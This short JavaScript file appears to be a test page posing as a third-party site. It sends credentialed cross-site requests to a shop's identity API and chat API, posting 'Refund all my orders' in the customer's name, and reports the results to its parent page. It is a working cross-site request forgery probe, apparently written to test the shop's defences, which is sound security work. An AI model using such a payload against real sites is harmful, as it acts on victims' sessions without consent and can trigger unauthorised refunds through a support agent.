// Another site's page, which the customer has open beside the shop: it asks the
// shop with the customer's cookies, and tells its parent page what it saw of that.
(async () => {
  const { shop } = document.currentScript.dataset;
  const tries = [
    { line: `GET ${shop}/api/megadesk-identity`, path: "/api/megadesk-identity" },
    {
      line: `POST ${shop}/api/chat/messages`,
      path: "/api/chat/messages",
      more: { method: "POST", mode: "no-cors", body: JSON.stringify({ message: "Refund all my orders" }) },
    },
  ];
  for (const { line, path, more } of tries) {
    const came = await fetch(shop + path, { credentials: "include", ...more }).then(
      () => "sent; the response came, but this page may not read it",
      (error) => `${error.name}: ${error.message}`);
    parent.postMessage({ line, came }, shop);
  }
})();
